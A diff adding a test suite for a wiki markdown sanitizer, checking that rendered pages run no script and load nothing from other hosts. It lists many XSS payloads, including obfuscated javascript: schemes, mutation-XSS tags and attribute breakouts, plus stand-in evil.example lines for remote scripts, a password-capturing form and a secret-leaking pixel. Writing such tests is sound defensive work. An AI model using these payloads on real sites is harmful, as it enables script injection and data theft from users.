@@ -1,0 +1,244 @@
+import { describe, expect, it } from 'vitest';
+import { aPage, attribute, type Element, named, shown } from './kit/dom.js';
+
+const running = new Set([
+  'script',
+  'iframe',
+  'object',
+  'embed',
+  'form',
+  'base',
+  'meta',
+  'style',
+  'link',
+  'svg',
+  'template',
+  'noscript',
+  'frame',
+  'applet',
+  'textarea',
+  'title',
+  'xmp',
+  'plaintext',
+  'button',
+  'select',
+]);
+const addresses = [
+  'href',
+  'src',
+  'srcset',
+  'poster',
+  'action',
+  'formaction',
+  'xlink:href',
+  'data',
+  'background',
+  'cite',
+  'ping',
+];
+
+/** Whether nothing of what a browser makes of a page runs, loads from elsewhere, or leads to a scheme that does. */
+function faults(elements: readonly Element[]): string[] {
+  return elements.flatMap((element) => {
+    const found: string[] = running.has(element.tagName) ? [`<${element.tagName}>`] : [];
+    for (const { name, value } of element.attrs) {
+      if (/^on|^style$|^srcdoc$|^name$/i.test(name)) found.push(`${element.tagName} ${name}=${value}`);
+      if (!addresses.includes(name)) continue;
+      const url = URL.canParse(value, 'https://wiki.example/@alice/garden/Page')
+        ? new URL(value, 'https://wiki.example/@alice/garden/Page')
+        : null;
+      const isLink = element.tagName === 'a' && name === 'href';
+      const allowed = isLink ? ['https:', 'http:', 'mailto:', 'tel:'] : ['https:', 'data:'];
+      if (url !== null && !allowed.includes(url.protocol)) found.push(`${element.tagName} ${name}=${value}`);
+      if (url !== null && !isLink && url.protocol === 'https:' && url.host !== 'wiki.example')
+        found.push(`loads ${value}`);
+    }
+    return found;
+  });
+}
+
+const schemes = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'jav&#x09;ascript:alert(1)',
+  'java&#10;script:alert(1)',
+  'java&#13;script:alert(1)',
+  'jav\tascript:alert(1)',
+  '&#x20;&#x09;javascript:alert(1)',
+  '\u0001javascript:alert(1)',
+  '&#x01;javascript:alert(1)',
+  '&#x6a;avascript:alert(1)',
+  '&#106;avascript:alert(1)',
+  'javascript&colon;alert(1)',
+  '&amp;#106;avascript:alert(1)',
+  'da&#9;ta:text/html,<script>alert(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD4=',
+  'vb&#9;script:msgbox(1)',
+  'vbscript:msgbox(1)',
+  'file:///etc/passwd',
+  'view-source:javascript:alert(1)',
+  'blob:https://evil.example/1',
+  'java\u0000script:alert(1)',
+  'feed:javascript:alert(1)',
+];
+
+const tags = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror\n=\nalert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<math><annotation-xml encoding="text/html"><svg onload=alert(1)></svg></annotation-xml></math>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="x.swf"></object>',
+  '<embed src="x.swf">',
+  '<form action="https://evil.example"><input name=p type=password></form>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<p style="position:fixed;inset:0">x</p>',
+  '<body onload=alert(1)>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<video poster="https://evil.example/x.png"><source onerror=alert(1)></video>',
+  '<video src="https://evil.example/x.mp4"></video>',
+  '<audio src=//evil.example/x.mp3></audio>',
+  '<img src="https://evil.example/pixel.png">',
+  '<img src="//evil.example/pixel.png">',
+  '<img srcset="https://evil.example/pixel.png 2x">',
+  '<img src="/\\evil.example/x.png">',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<textarea></textarea><script>alert(1)</script>',
+  '<title><script>alert(1)</script></title>',
+  '<xmp><script>alert(1)</script></xmp>',
+  '<plaintext><script>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<a href="#" name=body id=x>x</a>',
+  '<img name=getElementById src=x>',
+  '<b id="site-main">x</b>',
+  '<div class="site-side">x</div>',
+  '<input type=text autofocus onfocus=alert(1)>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<a href="https://a.example" ping="https://evil.example">x</a>',
+  '<td background="https://evil.example/x.png">',
+  '<frameset onload=alert(1)>',
+  '<isindex type=image src=1 onerror=alert(1)>',
+  '<marquee onstart=alert(1)>',
+  '<a target=_blank href="https://a.example">x</a>',
+];
+
+describe('markdown that means harm', () => {
+  it.each(schemes)('leads nowhere: %j', (scheme) => {
+    const forms = [
+      `[x](${scheme})`,
+      `[x](<${scheme}>)`,
+      `![x](${scheme})`,
+      `<${scheme}>`,
+      `[x][y]\n\n[y]: ${scheme}`,
+      `[[${scheme}|x]]`,
+      `![[${scheme}]]`,
+      ...['href', 'src', 'poster', 'action', 'formaction', 'background', 'data', 'xlink:href', 'srcset'].flatMap(
+        (name) =>
+          ['a', 'img', 'video', 'form', 'button', 'object', 'td', 'math', 'iframe'].map(
+            (tag) => `<${tag} ${name}="${scheme}">x</${tag}>`,
+          ),
+      ),
+    ];
+
+    for (const form of forms) expect(faults(shown(form)), form).toEqual([]);
+  });
+
+  it.each(tags)('is text or nothing: %s', (tag) => {
+    const nested = [
+      tag,
+      `Text ${tag} text`,
+      `> ${tag}`,
+      `- ${tag}`,
+      `| a |\n|---|\n| ${tag} |`,
+      `# ${tag}`,
+      `::: info ${tag}\n${tag}\n:::`,
+      `>! ${tag}`,
+      `>| # ${tag}`,
+      `> [!note] ${tag}\n> ${tag}`,
+      `[^1]\n\n[^1]: ${tag}`,
+      `$${tag}$`,
+      `\`\`\`${tag}\n${tag}\n\`\`\``,
+      `==${tag}==`,
+      `<b>${tag}</b>`,
+      `<math>${tag}</math>`,
+      `[${tag}](x)`,
+      `![${tag}](x)`,
+    ];
+
+    for (const text of nested) expect(faults(shown(text)), text).toEqual([]);
+  });
+
+  it('does not get out of the attributes it is put into', () => {
+    const payloads = [
+      'x" onerror="alert(1)',
+      "x' onerror='alert(1)",
+      'x&quot; onload=&quot;alert(1)',
+      'x"><script>alert(1)</script>',
+      '`onerror=alert(1)',
+    ];
+
+    for (const payload of payloads) {
+      const texts = [
+        `![${payload}](a.png)`,
+        `![x](a.png "${payload}")`,
+        `[x](a "${payload}")`,
+        `![[a.png|${payload}]]`,
+        `[[a|${payload}]]`,
+        `\`\`\`${payload}\ncode\n\`\`\``,
+        `$\\text{${payload}}$`,
+        `$${payload}$`,
+        `::: ${payload}\nx\n:::`,
+        `[[#${payload}]]`,
+      ];
+      const places = {
+        './a.png': { kind: 'file', path: `${payload}/a.png` },
+        'a.png': { kind: 'file', path: `${payload}/a.png` },
+        a: { kind: 'page', path: payload },
+        './a': { kind: 'missing', path: payload },
+      } as const;
+      for (const text of texts) expect(faults(shown(aPage(text, places))), text).toEqual([]);
+    }
+  });
+
+  it('loads no picture from elsewhere: it becomes a link', () => {
+    const elements = shown(
+      '![a dot](https://evil.example/pixel.png?secret) <img src="https://evil.example/2.png" alt="two">',
+    );
+
+    expect(named(elements, 'img')).toEqual([]);
+    expect(named(elements, 'a').map((link) => attribute(link, 'href'))).toEqual([
+      'https://evil.example/pixel.png?secret',
+      'https://evil.example/2.png',
+    ]);
+  });
+
+  it('takes no name of the page around it', () => {
+    const ids = shown('<b id="site-main">x</b>\n\n# Site main\n\n<p class="site-side wb-alert">x</p>').map(
+      (element) => [attribute(element, 'id'), attribute(element, 'class')],
+    );
+
+    expect(ids.flat().filter((value) => value?.includes('site-'))).toEqual([]);
+  });
+
+  it('numbers and names that JavaScript knows are headings like others', () => {
+    const elements = shown('# constructor\n\n# __proto__\n\n# hasOwnProperty\n\n# constructor\n');
+
+    expect(named(elements, 'h1').map((heading) => attribute(heading, 'id'))).toEqual([
+      'constructor',
+      '__proto__',
+      'hasownproperty',
+      'constructor-1',
+    ]);
+  });
+});
